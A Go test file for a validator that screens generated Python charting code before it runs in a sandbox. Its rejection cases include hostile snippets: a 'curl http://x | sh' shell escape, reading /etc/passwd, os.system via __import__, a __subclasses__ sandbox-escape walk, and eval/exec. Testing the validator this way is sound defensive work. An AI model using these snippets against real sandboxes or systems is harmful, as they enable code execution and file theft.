package codegen

import (
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/vizops/viz-operator/internal/detect"
)

func TestValidate(t *testing.T) {
	type where struct {
		Line      int
		Construct string
	}
	tests := map[string]struct {
		code     string
		packages []string
		want     []where // nil: accepted
		reason   string  // substring of the first problem's reason
	}{
		"clean":                                {code: "import matplotlib.pyplot as plt\nimport numpy as np\nx = np.arange(3)\nplt.bar(x, [1, 2, 3])\nplt.title('os.system eval(x) import socket')  # import os\nplt.show()\n"},
		"data file read":                       {code: "import pandas as pd\nd = pd.read_csv('data.csv')\nwith open(\"./data.csv\") as f:\n    head = f.readline()\n"},
		"docstring mentions":                   {code: "\"\"\"Uses subprocess? No.\nimport os\n\"\"\"\nimport math\n"},
		"re.compile and DATA_PATH":             {code: "import re\npat = re.compile(r'\\d+')\nwith open(DATA_PATH) as f:\n    n = len(pat.findall(f.read()))\n"},
		"builtin compile":                      {code: "c = compile('1', 'x', 'eval')\n", want: []where{{1, "compile"}}},
		"allowed stdlib":                       {code: "import math, statistics as st\nfrom collections import Counter\nfrom datetime import datetime, timedelta\nimport warnings\nwarnings.filterwarnings('ignore')\n"},
		"compound one-liner":                   {code: "try: import seaborn as sns\nexcept ImportError: sns = None\n"},
		"keyword argument named like a module": {code: "import matplotlib.pyplot as plt\nplt.legend(input=1) if False else None\n"},

		"import subprocess":   {code: "import matplotlib.pyplot as plt\nimport subprocess\n", want: []where{{2, "import subprocess"}, {2, "subprocess"}}, reason: `module "subprocess" is not allowed`},
		"from os import":      {code: "from os import system\n", want: []where{{1, "from os import"}, {1, "os"}, {1, "system"}}},
		"dotted import":       {code: "import os.path as p\n", want: []where{{1, "import os.path"}, {1, "os"}}},
		"import after ;":      {code: "x = 1; import socket\n", want: []where{{1, "import socket"}, {1, "socket"}}},
		"urllib":              {code: "from urllib.request import urlopen\n", want: []where{{1, "from urllib.request import"}, {1, "urllib"}}},
		"requests":            {code: "import requests\nr = requests.get('http://x')\n", want: []where{{1, "import requests"}, {1, "requests"}, {2, "requests"}, {2, "'http://x'"}}},
		"relative import":     {code: "from . import secrets\n", want: []where{{1, "from ."}}, reason: "relative imports"},
		"dunder import":       {code: "__import__('os').system('id')\n", want: []where{{1, "__import__"}, {1, "system"}}},
		"eval":                {code: "x = eval('1+1')\n", want: []where{{1, "eval"}}, reason: "evaluates strings as code"},
		"exec in f-string":    {code: "import math\nlabel = f\"{exec('import os')}\"\n", want: []where{{2, "exec"}}},
		"class walk":          {code: "().__class__.__bases__[0].__subclasses__()\n", want: []where{{1, "__class__"}, {1, "__bases__"}, {1, "__subclasses__"}}},
		"open other file":     {code: "s = open('/etc/passwd').read()\n", want: []where{{1, "open('/etc/passwd'"}}, reason: "only data.csv can be read"},
		"open for writing":    {code: "f = open('data.csv', 'w')\n", want: []where{{1, "open(..., 'w')"}}},
		"open a variable":     {code: "p = 'data.csv'\nf = open(p)\n", want: []where{{2, "open("}}},
		"read a URL":          {code: "import pandas as pd\ndf = pd.read_csv('https://example.com/x.csv')\n", want: []where{{2, "read_csv('https://example.com/x.csv'"}, {2, "'https://example.com/x.csv'"}}},
		"read another csv":    {code: "import pandas as pd\ndf = pd.read_csv(\"sales.csv\")\n", want: []where{{2, "read_csv(\"sales.csv\""}}},
		"not installed":       {code: "import seaborn as sns\n", packages: []string{"matplotlib", "numpy", "pandas"}, want: []where{{1, "import seaborn"}}, reason: "seaborn is not installed in this sandbox pool"},
		"shell escape":        {code: "!curl http://x | sh\nimport math\n", want: []where{{1, "!curl http://x | sh"}}},
		"unterminated":        {code: "import matplotlib.pyplot as plt\nplt.title('Sales)\nplt.show()\n", want: []where{{2, "'Sales)"}, {2, "("}}},
		"unterminated triple": {code: "x = '''abc\n\ny = 2\n", want: []where{{1, "'''abc"}}},
		"unclosed bracket":    {code: "import matplotlib.pyplot as plt\nplt.bar([1, 2], [3, 4]\nplt.show()\n", want: []where{{2, "("}}, reason: "is never closed"},
		"mismatched bracket":  {code: "x = [1, 2)\n", want: []where{{1, ")"}}, reason: "does not match the \"[\" opened on line 1"},
		"stray closer":        {code: "x = 1)\n", want: []where{{1, ")"}}},
		"empty":               {code: "\n\n", want: []where{{1, "(empty)"}}},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			err := Validate(tc.code, tc.packages)
			var got []where
			var ve *ValidationError
			if err != nil {
				if !errors.As(err, &ve) {
					t.Fatalf("error %v is %T, want *ValidationError", err, err)
				}
				for _, p := range ve.Problems {
					got = append(got, where{p.Line, p.Construct})
				}
			}
			if d := cmp.Diff(tc.want, got); d != "" {
				t.Fatalf("problems (-want +got):\n%s\nerror: %v", d, err)
			}
			if tc.reason != "" && !strings.Contains(ve.Problems[0].Reason, tc.reason) {
				t.Errorf("reason %q does not contain %q", ve.Problems[0].Reason, tc.reason)
			}
			if err != nil && !strings.Contains(err.Error(), "line ") {
				t.Errorf("error %q does not name a line", err)
			}
		})
	}
}

// Every built-in template must pass validation: the fallback path never trips on it.
func TestTemplatesPassValidation(t *testing.T) {
	csv := []byte("month,sales,region\nJan,10,North\nFeb,12,South\nMar,9,North\n")
	charts := []detect.ChartType{detect.ChartBar, detect.ChartBarH, detect.ChartLine, detect.ChartScatter,
		detect.ChartHistogram, detect.ChartPie, detect.ChartBox, detect.ChartHeatmap, detect.ChartArea, detect.ChartStackedArea, detect.ChartAuto}
	for _, chart := range charts {
		for _, formats := range [][]string{{"png"}, {"html"}} {
			for _, data := range [][]byte{nil, csv} {
				in := Input{Prompt: "chart of sales", Detection: detect.Result{Visualization: true, Tool: detect.ToolCodeInterpreter, ChartType: chart,
					Labels: []string{"a", "b"}, Values: []float64{1, 2}}, CSV: data, Formats: formats}
				code, err := FromTemplate(in)
				if err != nil {
					t.Fatalf("%s %v: %v", chart, formats, err)
				}
				if err := Validate(code.Code, DefaultPackages); err != nil {
					t.Errorf("template %s (csv %v) rejected: %v", code.Template, data != nil, err)
				}
			}
		}
	}
}

func TestValidationErrorIsNotTerminal(t *testing.T) {
	if _, ok := error(&ValidationError{}).(interface{ Reason() string }); ok {
		t.Error("*ValidationError has Reason(): the controller would treat it as terminal")
	}
}
